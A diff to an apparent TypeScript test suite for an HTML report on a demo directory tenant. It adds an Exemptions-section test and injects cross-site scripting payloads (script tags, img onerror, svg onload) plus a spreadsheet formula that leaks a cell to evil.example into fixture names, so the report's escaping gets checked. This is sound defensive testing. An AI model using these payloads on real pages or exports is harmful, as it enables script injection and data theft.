@@ -22,6 +22,7 @@ const XSS_NAME = '<img src=x onerror=alert(1)>';
 const FORMULA_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Carlos")';
 const XSS_REASON = '<script>alert("reason")</script> accepted';
 const XSS_POLICY = '<script>alert("policy")</script> CA001';
+const XSS_GROUP = '<svg onload=alert(4)> SG-Migration';
 const XSS_LABEL = '</script><script>alert(2)</script>\u2028<!--';
 const CHART_STUB = '/* chart.js stand-in */ window.Chart = undefined; var s = "</script><script>alert(3)</script>";';
 const NOW = '2026-11-25T10:05:00Z';
@@ -41,6 +42,9 @@ function demoReport(): Report {
   const policy = json.conditionalAccessPolicies.find((p) => String(p.displayName).startsWith('CA001'));
   if (!policy) throw new Error('demo fixture changed: CA001 is gone');
   policy.displayName = XSS_POLICY;
+  const group = (json.groups as Json[]).find((g) => g.displayName === 'SG-Migration-ServiceAccounts');
+  if (!group) throw new Error('demo fixture changed: SG-Migration-ServiceAccounts is gone');
+  group.displayName = XSS_GROUP;
   const fixture = parseTenantFixtureText(JSON.stringify(json), 'demo-tenant.json');
   const snapshot = snapshotFromFixture(fixture, json.referenceTime);
   const excludedAccounts = (json.settings.MONITOR_EXCLUDED_ACCOUNTS ?? '').split(',').map((s) => s.trim()).filter(Boolean);
@@ -214,6 +218,22 @@ describe('report page content (demo tenant)', () => {
     expect(html).toContain('Some data is missing or out of date');
   });
 
+  it('shows an Exemptions section: each exclusion with its controllers and their verdicts; each admin row links to the exclusions that reach it', () => {
+    const section = /<section id="exemptions"[\s\S]*?<\/section>/.exec(html)?.[0] ?? '';
+    expect(section).toContain('<h2 id="exemptions-h">Exemptions');
+    for (const x of report.exemptions?.exclusions ?? []) expect(section).toContain(`data-exclusion="${escaped(x.key)}"`);
+    // The owner of CA-Exclude-ServiceAccounts who is not protected, with the badge of their verdict.
+    const card = new RegExp(`<div class="card pad" id="exemption-group_[^"]*" data-exclusion="group:[^"]*">\\s*<h3>Group: CA-Exclude-ServiceAccounts[\\s\\S]*?</div>\\n?</div>`).exec(section)?.[0] ?? section;
+    expect(card).toMatch(/svc-exo-automation@contoso-demo\.example<\/b>[\s\S]*?class="badge unprotected">/);
+    expect(card).toContain('client secret');
+    expect(section).toContain('id="policy-editors"');
+    // The break-glass account's row links to the exclusion group it is in now.
+    const bg = report.admins.find((a) => a.userPrincipalName === 'breakglass-01@contoso-demo.example');
+    const row = new RegExp(`<tr id="admin-${bg?.id}"[\\s\\S]*?</tr>`).exec(html)?.[0] ?? '';
+    expect(row).toMatch(/<a href="#exemption-group_[^"]+">Group CA-Exclude-BreakGlass<\/a> <span class="tag permanent">excluded now<\/span>/);
+    expect(html).toContain('<a href="#exemptions">Exemptions');
+  });
+
   it('has a labelled filter with one chip per verdict and accessible charts', () => {
     expect(html).toMatch(/<label class="visually-hidden" for="admin-filter">/);
     expect(html).toContain('<input id="admin-filter" type="search"');
@@ -243,6 +263,8 @@ describe('report page safety', () => {
     expect(html).not.toContain('alert("policy")</script>');
     expect(html).toContain(escaped(XSS_NAME));
     expect(html).toContain(escaped(XSS_POLICY));
+    expect(html).not.toContain('<svg onload');
+    expect(html).toContain(escaped(XSS_GROUP));
     expect(html).not.toContain('<b>evil</b>');
     expect(html).not.toContain('<i><img');
   });
